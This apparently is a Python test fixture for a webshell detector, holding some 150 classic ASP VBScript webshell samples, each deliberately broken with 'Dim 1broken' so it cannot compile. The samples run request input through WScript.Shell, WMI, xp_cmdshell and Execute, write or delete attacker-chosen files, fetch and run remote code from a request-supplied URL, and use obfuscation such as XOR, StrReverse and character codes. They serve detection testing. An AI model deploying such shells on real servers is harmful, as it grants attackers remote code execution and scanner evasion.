# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Ways a value takes in VBScript from the request to an act, one cell each; none can run, `1broken` stops the compiler."""

from tests.detection.webshell.second_samples import cut

CELLS = cut(
    r"""
==== vb-function-named-as-member.asp
<% Dim 1broken
Function Run(line)
  Dim sh
  Set sh = CreateObject("WScript.Shell")
  Run = sh.Run("cmd /c " & line, 0, True)
End Function
Run Request("q")
%>
==== vb-function-named-exec.asp
<% Dim 1broken
Function Exec(line)
  Set Exec = CreateObject("WScript.Shell").Exec(line)
End Function
Response.Write Exec(Request("q")).StdOut.ReadAll
%>
==== vb-method-named-as-member.asp
<% Dim 1broken
Class Tool
  Public Function Exec(line)
    Dim host
    Set host = Server.CreateObject("WScript.Shell")
    Set Exec = host.Exec("cmd.exe /c " & line)
  End Function
End Class
Dim t : Set t = New Tool
Response.Write t.Exec(Request.Form("q")).StdOut.ReadAll()
%>
==== vb-method-named-write.asp
<% Dim 1broken
Class Keeper
  Public Sub Write(name, body)
    Dim fs, f
    Set fs = CreateObject("Scripting.FileSystemObject")
    Set f = fs.CreateTextFile(name, True)
    f.Write body
    f.Close
  End Sub
End Class
Dim k : Set k = New Keeper
k.Write Request("n"), Request("b")
%>
==== vb-method-named-savetofile.asp
<% Dim 1broken
Sub SaveToFile(name, body)
  Dim s : Set s = CreateObject("ADODB.Stream")
  s.Type = 2 : s.Open
  s.WriteText body
  s.SaveToFile name, 2
End Sub
SaveToFile Request("n"), Request("b")
%>
==== vb-recursion.asp
<% Dim 1broken
Function Strip(s, n)
  If n = 0 Then
    Strip = s
  Else
    Strip = Strip(Mid(s, 2), n - 1)
  End If
End Function
Execute Strip(Request("q"), 3)
%>
==== vb-mutual-recursion.asp
<% Dim 1broken
Sub Ping(s, n)
  If n > 3 Then Pong s, n Else Ping s, n + 1
End Sub
Sub Pong(s, n)
  If n > 9 Then
    ExecuteGlobal s
  Else
    Ping s, n + 1
  End If
End Sub
Ping Request.Form("q"), 0
%>
==== vb-class-initialize-object.asp
<% Dim 1broken
Class Service
  Private m_host
  Private Sub Class_Initialize()
    Set m_host = Server.CreateObject("WScript.Shell")
  End Sub
  Private Sub Class_Terminate()
    Set m_host = Nothing
  End Sub
  Public Function Perform(ByVal what)
    Perform = m_host.Run("cmd /c " & what, 0, True)
  End Function
End Class
Dim s
Set s = New Service
Response.Write s.Perform(Request.Form("q"))
%>
==== vb-class-initialize-value.asp
<% Dim 1broken
Class Job
  Private text
  Private Sub Class_Initialize
    text = Request.Form("q")
  End Sub
  Public Sub Go
    ExecuteGlobal text
  End Sub
End Class
With New Job
  .Go
End With
%>
==== vb-class-initialize-fso.asp
<% Dim 1broken
Class Box
  Private fs
  Private Sub Class_Initialize()
    Set fs = CreateObject("Scripting.FileSystemObject")
  End Sub
  Public Sub Put(n, b)
    Dim f
    Set f = fs.OpenTextFile(n, 2, True)
    f.Write b
    f.Close
  End Sub
End Class
Dim b : Set b = New Box
b.Put Request("n"), Request("b")
%>
==== vb-class-terminate.asp
<% Dim 1broken
Class Late
  Public Text
  Private Sub Class_Terminate
    Execute Text
  End Sub
End Class
Dim l : Set l = New Late
l.Text = Request("q")
Set l = Nothing
%>
==== vb-property-get.asp
<% Dim 1broken
Class Context
  Public Property Get Command()
    Command = Request.Form("q")
  End Property
End Class
Dim c : Set c = New Context
CreateObject("WScript.Shell").Run "cmd /c " & c.Command, 0
%>
==== vb-property-let.asp
<% Dim 1broken
Class Holder
  Private m
  Public Property Let Code(v)
    m = v
  End Property
  Public Property Get Code
    Code = m
  End Property
End Class
Dim h : Set h = New Holder
h.Code = Request("q")
Eval h.Code
%>
==== vb-property-let-acts.asp
<% Dim 1broken
Class Trigger
  Public Property Let Text(v)
    Execute v
  End Property
End Class
Dim t : Set t = New Trigger
t.Text = Request("q")
%>
==== vb-property-set.asp
<% Dim 1broken
Class Wrap
  Private o
  Public Property Set Tool(x)
    Set o = x
  End Property
  Public Sub Start(a)
    o.Run a
  End Sub
End Class
Dim w : Set w = New Wrap
Set w.Tool = CreateObject("WScript.Shell")
w.Start Request("q")
%>
==== vb-property-indexed.asp
<% Dim 1broken
Class Bag
  Public Property Get Item(n)
    Item = Request.Form(n)
  End Property
End Class
Dim b : Set b = New Bag
Execute b.Item("q")
%>
==== vb-default-property.asp
<% Dim 1broken
Class Bag
  Public Default Property Get Value(n)
    Value = Request.QueryString(n)
  End Property
End Class
Dim b : Set b = New Bag
Execute b("q")
%>
==== vb-default-method.asp
<% Dim 1broken
Class Act
  Public Default Sub Doit(s)
    ExecuteGlobal s
  End Sub
End Class
Dim a : Set a = New Act
a Request("q")
%>
==== vb-me.asp
<% Dim 1broken
Class T
  Public S
  Public Sub Load
    Me.S = Request("q")
  End Sub
  Public Sub Go
    Execute Me.S
  End Sub
End Class
Dim x : Set x = New T
x.Load
x.Go
%>
==== vb-me-method.asp
<% Dim 1broken
Class T
  Public Function Fetch
    Fetch = Request("q")
  End Function
  Public Sub Go
    Eval Me.Fetch()
  End Sub
End Class
Dim x : Set x = New T : x.Go
%>
==== vb-public-field.asp
<% Dim 1broken
Class Box
  Public Line
End Class
Dim b : Set b = New Box
b.Line = Request.Cookies("q")
CreateObject("WScript.Shell").Exec b.Line
%>
==== vb-field-object.asp
<% Dim 1broken
Class Box
  Public Tool
End Class
Dim b : Set b = New Box
Set b.Tool = CreateObject("WScript.Shell")
b.Tool.Run Request("q")
%>
==== vb-object-in-object.asp
<% Dim 1broken
Class Inner
  Public Sub Fire(s)
    Execute s
  End Sub
End Class
Class Outer
  Private part
  Private Sub Class_Initialize
    Set part = New Inner
  End Sub
  Public Sub Pass(s)
    part.Fire s
  End Sub
End Class
Dim o : Set o = New Outer
o.Pass Request("q")
%>
==== vb-factory.asp
<% Dim 1broken
Function Maker()
  Set Maker = CreateObject("WScript.Shell")
End Function
Maker().Run Request("q"), 0
%>
==== vb-factory-stored.asp
<% Dim 1broken
Function Maker(kind)
  Select Case kind
    Case 1 : Set Maker = CreateObject("Scripting.FileSystemObject")
    Case 2 : Set Maker = CreateObject("WScript.Shell")
  End Select
End Function
Dim o : Set o = Maker(2)
o.Run Request("q"), 0
%>
==== vb-byref.asp
<% Dim 1broken
Sub Take(ByRef v)
  v = Request("q")
End Sub
Dim s
Take s
Execute s
%>
==== vb-byref-object.asp
<% Dim 1broken
Sub Give(ByRef o)
  Set o = CreateObject("WScript.Shell")
End Sub
Dim h
Give h
h.Run Request("q")
%>
==== vb-byref-call-brackets.asp
<% Dim 1broken
Sub Take(v, n)
  v = Request.Form(n)
End Sub
Dim s
Call Take(s, "q")
ExecuteGlobal(s)
%>
==== vb-array-element.asp
<% Dim 1broken
Dim a(3)
a(0) = "cmd /c "
a(1) = Request("q")
CreateObject("WScript.Shell").Run a(0) & a(1), 0
%>
==== vb-array-object.asp
<% Dim 1broken
Dim a(3)
Set a(2) = CreateObject("WScript.Shell")
a(2).Run Request("q")
%>
==== vb-array-function.asp
<% Dim 1broken
a = Array("x", Request("q"), "y")
Execute a(1)
%>
==== vb-array-function-object.asp
<% Dim 1broken
a = Array(CreateObject("WScript.Shell"), Request("q"))
a(0).Run a(1), 0, False
%>
==== vb-redim-preserve.asp
<% Dim 1broken
Dim lines()
ReDim lines(0)
For Each k In Request.Form
  ReDim Preserve lines(UBound(lines) + 1)
  lines(UBound(lines)) = Request.Form(k)
Next
Execute Join(lines, vbCrLf)
%>
==== vb-split-join.asp
<% Dim 1broken
Execute Join(Split(Request("q"), "~"), " ")
%>
==== vb-split-element.asp
<% Dim 1broken
p = Split(Request("q"), "|")
If p(0) = "run" Then CreateObject("WScript.Shell").Run p(1), 0
%>
==== vb-filter.asp
<% Dim 1broken
p = Filter(Split(Request("q"), "|"), "x")
ExecuteGlobal p(0)
%>
==== vb-split-loop.asp
<% Dim 1broken
For Each part In Split(Request("q"), ",")
  s = s & Chr(CInt(part))
Next
Execute s
%>
==== vb-two-dimensions.asp
<% Dim 1broken
Dim t(2, 2)
t(1, 0) = Request("q")
Execute t(1, 0)
%>
==== vb-dictionary-item.asp
<% Dim 1broken
Set d = CreateObject("Scripting.Dictionary")
d("c") = Request("q")
Execute d("c")
%>
==== vb-dictionary-add.asp
<% Dim 1broken
Set d = Server.CreateObject("Scripting.Dictionary")
d.Add "c", Request("q")
Execute d.Item("c")
%>
==== vb-dictionary-loop.asp
<% Dim 1broken
Set d = Server.CreateObject("Scripting.Dictionary")
For Each k In Request.Form
  d.Add k, Request.Form(k)
Next
For Each k In d.Keys
  ExecuteGlobal d(k)
Next
%>
==== vb-dictionary-items.asp
<% Dim 1broken
Set d = Server.CreateObject("Scripting.Dictionary")
d("a") = Request("q")
For Each v In d.Items
  Execute v
Next
%>
==== vb-dictionary-object.asp
<% Dim 1broken
Set d = CreateObject("Scripting.Dictionary")
d.Add "s", CreateObject("WScript.Shell")
d("s").Run Request("q")
%>
==== vb-dictionary-getref.asp
<% Dim 1broken
Sub DoIt(s)
  Execute s
End Sub
Set d = CreateObject("Scripting.Dictionary")
Set d("x") = GetRef("DoIt")
Set f = d("x")
f Request("q")
%>
==== vb-each-form.asp
<% Dim 1broken
For Each f In Request.Form
  If Left(f, 1) = "x" Then Execute Request.Form(f)
Next
%>
==== vb-each-querystring-key.asp
<% Dim 1broken
For Each f In Request.QueryString
  Execute f
Next
%>
==== vb-each-cookies.asp
<% Dim 1broken
For Each f In Request.Cookies
  s = s & Request.Cookies(f)
Next
Execute s
%>
==== vb-each-servervariables.asp
<% Dim 1broken
For Each v In Request.ServerVariables
  If v = "HTTP_X_T" Then ExecuteGlobal Request.ServerVariables(v)
Next
%>
==== vb-index-form.asp
<% Dim 1broken
For i = 1 To Request.Form.Count
  Execute Request.Form(i)
Next
%>
==== vb-select-case-lines.asp
<% Dim 1broken
Select Case Request("a")
  Case "x" : CreateObject("WScript.Shell").Run Request("q")
  Case "y" : Response.Write "y"
End Select
%>
==== vb-select-case-blocks.asp
<% Dim 1broken
Set sh = CreateObject("WScript.Shell")
Select Case LCase(Request("a"))
Case "x", "z"
  line = "cmd /c " & Request("q")
Case Else
  line = "cmd /c ver"
End Select
sh.Run line, 0, True
%>
==== vb-select-case-true.asp
<% Dim 1broken
Select Case True
  Case Request("q") <> "" : Execute Request("q")
End Select
%>
==== vb-do-while.asp
<% Dim 1broken
i = 1 : s = Request("q")
Do While i <= Len(s)
  o = o & Chr(Asc(Mid(s, i, 1)) - 1)
  i = i + 1
Loop
Execute o
%>
==== vb-while-wend.asp
<% Dim 1broken
s = Request("q")
While Len(s) > 0
  o = o & Chr("&H" & Left(s, 2))
  s = Mid(s, 3)
Wend
ExecuteGlobal o
%>
==== vb-do-loop-until.asp
<% Dim 1broken
n = 0
Do
  n = n + 1
  If Request.Form("q" & n) <> "" Then Execute Request.Form("q" & n)
Loop Until n > 5
%>
==== vb-with.asp
<% Dim 1broken
With CreateObject("WScript.Shell")
  .Run "cmd /c " & Request("q"), 0, True
End With
%>
==== vb-with-nested.asp
<% Dim 1broken
With Request
  With CreateObject("WScript.Shell")
    Set e = .Exec("cmd /c " & Request("q"))
    With e.StdOut
      Response.Write .ReadAll
    End With
  End With
End With
%>
==== vb-with-request.asp
<% Dim 1broken
With Request
  v = .Form("q")
End With
Execute v
%>
==== vb-with-stream.asp
<% Dim 1broken
With Server.CreateObject("ADODB.Stream")
  .Type = 1
  .Open
  .Write Request.BinaryRead(Request.TotalBytes)
  .SaveToFile Request.QueryString("n"), 2
  .Close
End With
%>
==== vb-eval-assembled.asp
<% Dim 1broken
Execute "Exe" & "cute(Requ" & "est(""q""))"
%>
==== vb-execute-defines.asp
<% Dim 1broken
Execute "Function F(s)" & vbCrLf & "Execute s" & vbCrLf & "End Function"
F Request("q")
%>
==== vb-executeglobal-class.asp
<% Dim 1broken
t = "Class R" & vbCrLf & "Public Sub Go(s)" & vbCrLf & "ExecuteGlobal s" & vbCrLf & "End Sub" & vbCrLf & "End Class"
ExecuteGlobal t
Set r = New R
r.Go Request("q")
%>
==== vb-execute-assignment.asp
<% Dim 1broken
Execute "v = Request(""q"")"
Execute v
%>
==== vb-eval-object.asp
<% Dim 1broken
Set o = Eval("CreateObject(""WScript.Shell"")")
o.Run Request("q")
%>
==== vb-execute-replace.asp
<% Dim 1broken
Execute Replace("Exec#te Req#est(""q"")", "#", "u")
%>
==== vb-execute-reverse.asp
<% Dim 1broken
Execute StrReverse(")""q""(tseuqeR lavE")
%>
==== vb-getref.asp
<% Dim 1broken
Sub Work(s)
  Execute s
End Sub
Set f = GetRef("Work")
f Request("q")
%>
==== vb-getref-call.asp
<% Dim 1broken
Function Work(s)
  Work = Eval(s)
End Function
Set f = GetRef("Wo" & "rk")
Response.Write f(Request("q"))
%>
==== vb-getref-passed.asp
<% Dim 1broken
Sub Work(s)
  ExecuteGlobal s
End Sub
Sub Each1(f, v)
  f v
End Sub
Each1 GetRef("Work"), Request("q")
%>
==== vb-getref-requested.asp
<% Dim 1broken
Sub Doit
  Execute Request("q")
End Sub
Set f = GetRef(Request("f"))
f
%>
==== vb-session.asp
<% Dim 1broken
Session("t") = Request("q")
Execute Session("t")
%>
==== vb-session-contents.asp
<% Dim 1broken
Session.Contents("t") = Request("q")
Execute Session.Contents("t")
%>
==== vb-session-contents-item.asp
<% Dim 1broken
Session.Contents.Item("t") = Request("q")
Execute Session("t")
%>
==== vb-application-value.asp
<% Dim 1broken
Application.Lock
Application.Value("t") = Request("q")
Application.Unlock
Execute Application("t")
%>
==== vb-application-key-variable.asp
<% Dim 1broken
k = "slot" & Session.SessionID
Application(k) = Request("q")
Execute Application(k)
%>
==== vb-binaryread-loop.asp
<% Dim 1broken
b = Request.BinaryRead(Request.TotalBytes)
For i = 1 To LenB(b)
  s = s & Chr(AscB(MidB(b, i, 1)))
Next
ExecuteGlobal s
%>
==== vb-binaryread-function.asp
<% Dim 1broken
Function Plain(b)
  Dim i, r
  For i = 1 To LenB(b)
    r = r & Chr(AscB(MidB(b, i, 1)) Xor 7)
  Next
  Plain = r
End Function
Execute Plain(Request.BinaryRead(Request.TotalBytes))
%>
==== vb-stream-converter.asp
<% Dim 1broken
Set st = CreateObject("ADODB.Stream")
st.Type = 1 : st.Open
st.Write Request.BinaryRead(Request.TotalBytes)
st.Position = 0 : st.Type = 2 : st.Charset = "utf-8"
Execute st.ReadText
%>
==== vb-stream-function.asp
<% Dim 1broken
Function ToText(b)
  With CreateObject("ADODB.Stream")
    .Type = 1
    .Open
    .Write b
    .Position = 0
    .Type = 2
    .CharSet = "us-ascii"
    ToText = .ReadText
  End With
End Function
Execute ToText(Request.BinaryRead(Request.TotalBytes))
%>
==== vb-recordset-converter.asp
<% Dim 1broken
Set rs = CreateObject("ADODB.Recordset")
rs.Fields.Append "t", 201, LenB(b) + 1
rs.Open
rs.AddNew
rs("t").AppendChunk Request.BinaryRead(Request.TotalBytes) & ChrB(0)
rs.Update
Execute rs("t").Value
%>
==== vb-recordset-variable.asp
<% Dim 1broken
b = Request.BinaryRead(Request.TotalBytes)
Set rs = Server.CreateObject("ADODB.Recordset")
rs.Fields.Append "t", 201, 4000
rs.Open : rs.AddNew
rs.Fields("t").AppendChunk b
rs.Update
s = rs.Fields("t")
ExecuteGlobal s
%>
==== vb-xml-base64.asp
<% Dim 1broken
Set x = CreateObject("MSXML2.DOMDocument")
Set n = x.createElement("b")
n.dataType = "bin.base64"
n.text = Request("q")
Set st = CreateObject("ADODB.Stream")
st.Type = 1 : st.Open : st.Write n.nodeTypedValue
st.Position = 0 : st.Type = 2
Execute st.ReadText
%>
==== vb-xml-hex-upload.asp
<% Dim 1broken
Set n = CreateObject("Microsoft.XMLDOM").createElement("h")
n.dataType = "bin.hex"
n.text = Request.Form("b")
Set st = CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write n.nodeTypedValue
st.SaveToFile Request.Form("n"), 2
%>
==== vb-xml-loaded.asp
<% Dim 1broken
Set x = CreateObject("MSXML2.DOMDocument")
x.async = False
x.load Request
Execute x.selectSingleNode("//c").text
%>
==== vb-xml-loadxml.asp
<% Dim 1broken
Set x = CreateObject("MSXML2.DOMDocument.3.0")
x.loadXML Request.Form("d")
Execute x.documentElement.getAttribute("c")
%>
==== vb-server-execute.asp
<% Dim 1broken
Server.Execute Request("p")
%>
==== vb-write-and-transfer.asp
<% Dim 1broken
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 2 : st.Open
st.WriteText Request("q")
st.SaveToFile Server.MapPath("t.asp"), 2
st.Close
Server.Transfer "t.asp"
%>
==== vb-write-and-execute.asp
<% Dim 1broken
Set fs = CreateObject("Scripting.FileSystemObject")
Set f = fs.CreateTextFile(Server.MapPath("t.asp"), True)
f.Write Request("q")
f.Close
Server.Execute "t.asp"
%>
==== vb-createobject-joined.asp
<% Dim 1broken
n = Join(Array("WScript", "Shell"), ".")
Set o = CreateObject(n)
o.Run Request("q")
%>
==== vb-createobject-chr.asp
<% Dim 1broken
n = Chr(87) & "Script." & Chr(83) & "hell"
Set o = Server.CreateObject(n)
o.Run Request("q"), 0
%>
==== vb-createobject-function.asp
<% Dim 1broken
Function N(a, b)
  N = a & "." & b
End Function
Server.CreateObject(N("WScript", "Shell")).Run Request("q"), 0
%>
==== vb-createobject-const.asp
<% Dim 1broken
Const PROG = "WScript.Shell"
Set o = Server.CreateObject(PROG)
o.Run Request("q")
%>
==== vb-clsid.asp
<% Dim 1broken
Set o = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")
o.Run Request("q")
%>
==== vb-object-tag.asp
<object runat="server" id="host" progid="WScript.Shell"></object>
<% Dim 1broken
host.Run "cmd /c " & Request("q"), 0
%>
==== vb-object-tag-clsid.asp
<object runat=server scope=page id=host classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<% Dim 1broken
Response.Write host.Exec(Request("q")).StdOut.ReadAll
%>
==== vb-wmi-create.asp
<% Dim 1broken
Set w = GetObject("winmgmts:\\.\root\cimv2")
Set p = w.Get("Win32_Process")
p.Create Request("q"), Null, Null, pid
%>
==== vb-wmi-direct.asp
<% Dim 1broken
GetObject("winmgmts:root\cimv2:Win32_Process").Create Request("q"), Null, Null, pid
%>
==== vb-wmi-locator.asp
<% Dim 1broken
Set l = CreateObject("WbemScripting.SWbemLocator")
Set s = l.ConnectServer(".", "root\cimv2")
r = s.Get("Win32_Process").Create("cmd /c " & Request("q"), , , id)
%>
==== vb-wmi-execmethod.asp
<% Dim 1broken
Set s = GetObject("winmgmts:")
Set c = s.Get("Win32_Process")
Set i = c.Methods_("Create").InParameters.SpawnInstance_()
i.CommandLine = Request("q")
s.ExecMethod "Win32_Process", "Create", i
%>
==== vb-shell-application.asp
<% Dim 1broken
Set a = CreateObject("Shell.Application")
a.ShellExecute "cmd.exe", "/c " & Request("q"), "", "open", 0
%>
==== vb-shell-application-verb.asp
<% Dim 1broken
Set a = CreateObject("Shell.Application")
a.NameSpace(Request("d")).ParseName(Request("f")).InvokeVerb "open"
%>
==== vb-shell-application-open.asp
<% Dim 1broken
CreateObject("Shell.Application").Open Request("q")
%>
==== vb-scriptcontrol.asp
<% Dim 1broken
Set c = CreateObject("MSScriptControl.ScriptControl")
c.Language = "VBScript"
c.ExecuteStatement Request("q")
%>
==== vb-scriptcontrol-addcode.asp
<% Dim 1broken
Set c = CreateObject("ScriptControl")
c.Language = "JScript"
c.AddCode Request("q")
c.Run "main"
%>
==== vb-regexp-replace.asp
<% Dim 1broken
Set r = New RegExp
r.Global = True
r.Pattern = "~"
Execute r.Replace(Request("q"), " ")
%>
==== vb-regexp-matches.asp
<% Dim 1broken
Set r = New RegExp
r.Global = True : r.Pattern = "..": s = ""
For Each m In r.Execute(Request("q"))
  s = s & Chr("&H" & m.Value)
Next
Execute s
%>
==== vb-regexp-submatch.asp
<% Dim 1broken
Set r = New RegExp
r.Pattern = "k=(.+)"
Set m = r.Execute(Request.ServerVariables("QUERY_STRING"))
Execute m(0).SubMatches(0)
%>
==== vb-no-brackets.asp
<% Dim 1broken
Function Q
  Q = Request("q")
End Function
Execute Q
%>
==== vb-continuation.asp
<% Dim 1broken
CreateObject( _
  "WScript.Shell" _
  ).Run _
  "cmd /c " _
  & Request( _
  "q"), _
  0
%>
==== vb-colons.asp
<% Dim 1broken : Dim s : s = Request("q") : If s <> "" Then Execute s : Response.End
%>
==== vb-on-error.asp
<% Option Explicit
Dim 1broken
On Error Resume Next
Dim q
q = Request("q")
Err.Clear
ExecuteGlobal q
If Err.Number <> 0 Then Response.Write Err.Description
%>
==== vb-include-between.asp
<% Dim 1broken
q = Request("q") %>
<!--#include file="absent.inc"-->
<p>text</p>
<% Execute q %>
==== vb-blocks-interleaved.asp
<% Dim 1broken
Sub Show(s) %>
<pre><%= Eval(s) %></pre>
<% End Sub
If Request("q") <> "" Then %>
<b><% Show Request("q") %></b>
<% End If %>
==== vb-blocks-with.asp
<% Dim 1broken
With CreateObject("WScript.Shell") %>
<pre><%= .Exec(Request("q")).StdOut.ReadAll %></pre>
<% End With %>
==== vb-two-languages.asp
<script language="JScript" runat="server">
function doIt(s) { var 1broken; return eval(s); }
</script>
<% Dim 1broken
Response.Write doIt(Request("q"))
%>
==== vb-two-languages-back.asp
<%@ Language="VBScript" %>
<script language="JScript" runat="server">
var 1broken; var sh = new ActiveXObject("WScript.Shell");
function getter(n) { return String(Request.Form(n)); }
</script>
<% Dim 1broken
sh.Run getter("q"), 0
%>
==== vb-response-end-first.asp
<% Dim 1broken
Response.End
Execute Request("q")
%>
==== vb-redirect-first.asp
<% Dim 1broken
Response.Redirect "/"
Set o = CreateObject("WScript.Shell")
o.Run Request("q")
%>
==== vb-behind-exit-sub.asp
<% Dim 1broken
Sub Main
  Exit Sub
  Execute Request("q")
End Sub
Main
%>
==== vb-behind-false.asp
<% Dim 1broken
If False Then
  Execute Request("q")
End If
%>
==== vb-request-alias.asp
<% Dim 1broken
Set r = Request
Execute r("q")
%>
==== vb-request-collection-alias.asp
<% Dim 1broken
Set f = Request.Form
Execute f("q")
%>
==== vb-request-passed.asp
<% Dim 1broken
Sub Serve(req, n)
  Execute req.Form(n)
End Sub
Serve Request, "q"
%>
==== vb-server-alias.asp
<% Dim 1broken
Set s = Server
s.CreateObject("WScript.Shell").Run Request("q")
%>
==== vb-const-key.asp
<% Dim 1broken
Const KEY = "q"
Dim v : v = Request.Form(KEY).Item
Execute v
%>
==== vb-iif.asp
<% Dim 1broken
Function IIf(c, a, b)
  If c Then IIf = a Else IIf = b
End Function
Execute IIf(Request("q") = "", "x = 1", Request("q"))
%>
==== vb-header.asp
<% Dim 1broken
h = Request.ServerVariables("HTTP_X_DATA")
If Len(h) Then Execute h
%>
==== vb-cookie-key.asp
<% Dim 1broken
Execute Request.Cookies("a")("b")
%>
==== vb-environment.asp
<% Dim 1broken
Set sh = CreateObject("WScript.Shell")
sh.Environment("PROCESS")("Q") = Request("q")
sh.Run "cmd /c %Q%", 0
%>
==== vb-local-file-run.asp
<% Dim 1broken
Set fs = CreateObject("Scripting.FileSystemObject")
p = Server.MapPath("x.bat")
fs.CreateTextFile(p).Write Request("q")
CreateObject("WScript.Shell").Run p, 0, True
%>
==== vb-fso-manager.asp
<% Dim 1broken
Class Disk
  Private fs
  Private Sub Class_Initialize : Set fs = CreateObject("Scripting.FileSystemObject") : End Sub
  Public Sub Del(p) : fs.DeleteFile p : End Sub
  Public Function Show(p) : Show = fs.OpenTextFile(p).ReadAll : End Function
  Public Sub Put(p, t) : fs.CreateTextFile(p, True).Write t : End Sub
  Public Sub Ren(p, n) : fs.MoveFile p, n : End Sub
End Class
Set d = New Disk
Select Case Request("a")
  Case "d" : d.Del Request("p")
  Case "s" : Response.Write d.Show(Request("p"))
  Case "w" : d.Put Request("p"), Request("t")
  Case "r" : d.Ren Request("p"), Request("n")
End Select
%>
==== vb-sql-cmdshell.asp
<% Dim 1broken
Set c = CreateObject("ADODB.Connection")
c.Open "Provider=SQLOLEDB;Data Source=."
Set rs = c.Execute("EXEC master..xp_cmdshell '" & Replace(Request("q"), "'", "''") & "'")
%>
==== vb-http-fetch-save.asp
<% Dim 1broken
Set h = CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", Request("u"), False
h.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1 : s.Open
s.Write h.responseBody
s.SaveToFile Request("n"), 2
%>
==== vb-http-fetch-run.asp
<% Dim 1broken
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", Request("u"), False
h.Send
ExecuteGlobal h.responseText
%>
==== vb-textstream-field.asp
<% Dim 1broken
Class Out
  Private t
  Public Sub Open(n)
    Set t = CreateObject("Scripting.FileSystemObject").CreateTextFile(n, True)
  End Sub
  Public Sub Put(s)
    t.WriteLine s
  End Sub
End Class
Set o = New Out
o.Open Request("n")
o.Put Request("s")
%>
==== vb-caps.asp
<% DIM 1broken
SET OBJ = SERVER.CREATEOBJECT("WSCRIPT.SHELL")
OBJ.RUN REQUEST.FORM("Q"), 0, TRUE
%>
==== vb-bracket-names.asp
<% Dim 1broken
[the value] = Request("q")
Execute [the value]
%>
==== vb-rem.asp
<% Dim 1broken
Rem nothing here
s = Request("q") ' a comment
Execute s Rem more
%>
==== vb-call-with-object.asp
<% Dim 1broken
Sub Fire(o, m, a)
  o.Run a, 0, m
End Sub
Fire CreateObject("WScript.Shell"), True, Request("q")
%>
==== vb-callbyname-eval.asp
<% Dim 1broken
Set sh = CreateObject("WScript.Shell")
m = "Run"
Eval "sh." & m & "(Request(""q""))"
%>
==== vb-escape-decode.asp
<% Dim 1broken
Execute Unescape(Request("q"))
%>
==== vb-shift.asp
<% Dim 1broken
Function Shift(s)
  Dim i, c
  Shift = ""
  For i = 1 To Len(s)
    c = Asc(Mid(s, i, 1))
    Shift = Shift & ChrW(c Xor 3)
  Next
End Function
ExecuteGlobal Shift(Request.Form("q"))
%>
==== vb-hidden-shift.asp
<% Dim 1broken
Function D(t)
  Dim i
  For i = 1 To Len(t)
    D = D & Chr(Asc(Mid(t, i, 1)) - 1)
  Next
End Function
Execute D("Fydvuf!Sfrvftu)#r#*")
%>
==== vb-class-not-ended.asp
<%
Class View
  Private mFso, mRoot
  Private Sub Class_Initialize()
    Dim 1broken
    Set mFso = Server.CreateObject("Scripting.FileSystemObject")
    mRoot = Request("root")
  End Sub
  Public Sub RemoveTicked()
    Dim item
    For Each item In Request.Form("tick")
      mFso.DeleteFile mRoot & "\" & item, True
    Next
  End Sub

Dim v
Set v = New View
v.RemoveTicked
%>
==== vb-folder-and-name.asp
<% Dim 1broken
Set fso = Server.CreateObject("Scripting.FileSystemObject")
fso.DeleteFile Request("d") & "\" & Request("f")
%>
"""
)
